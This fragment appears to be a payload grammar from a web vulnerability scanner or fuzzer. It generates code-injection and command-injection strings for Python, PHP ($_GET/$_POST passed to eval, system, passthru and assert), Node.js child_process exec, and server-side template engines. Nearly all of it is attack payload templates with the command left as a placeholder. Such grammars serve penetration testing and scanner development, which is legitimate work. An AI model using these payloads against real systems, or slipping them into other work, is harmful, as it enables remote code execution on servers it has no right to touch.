  'import ‹os¦time¦socket¦subprocess›;‹os.system("‹cmd›")¦time.sleep(‹n›)›','','‹single¦exec›'
  __import__('‹os¦time¦subprocess›').‹system('‹cmd›')¦sleep(‹n›)¦popen('‹cmd›').read()›
  ‹ca.fn›(‹ca.inner›)
  §_‹GET¦POST¦REQUEST¦COOKIE›[‹'¦›‹~1-5›‹'¦›]
  chr(‹#40-120›).chr(‹#40-120›).chr(‹#40-120›)
code/calls 4: ‹eval¦exec¦execfile¦assert›(compile(‹ca.inner›))
  2× ‹eval¦exec¦system¦passthru¦assert¦sleep¦phpinfo¦print_r¦var_dump›(‹ca.inner›)‹;¦›
  ‹'¦"›‹.¦+¦ + ¦||›‹ca.fn›(‹ca.inner›)‹.¦+¦ + ¦||›‹'¦"›
  ‹'¦"¦')¦")›;‹¦ ›‹ca.fn›(‹ca.inner›);‹//¦#¦'¦"¦›
  §{‹@¦›‹ca.fn›(‹ca.inner›)}
  {§{‹ca.fn›(‹ca.inner›)}}
  {‹ca.fn›(‹ca.inner›)}
  {php}‹ca.fn›(‹ca.inner›);{/php}
  <?‹php ¦=¦›‹ca.fn›(‹ca.inner›)‹;¦›?>
  ‹~2-6›{{‹.¦..¦‹~1›¦‹n›*‹n›¦7*'7'›}}‹~2-6›{{‹..¦.¦‹n›+‹n››}}‹~2-6›
  ‹*4-8›‹{{¦{%¦§{¦#{¦<%=¦[[›‹n›‹*¦+¦-›‹n›‹}}¦%}¦}¦%>¦]]›‹*4-8›
  ‹¦'¦"¦;›require('child_process').‹exec¦execSync¦spawn›('‹cmd›')‹;¦//¦›
`
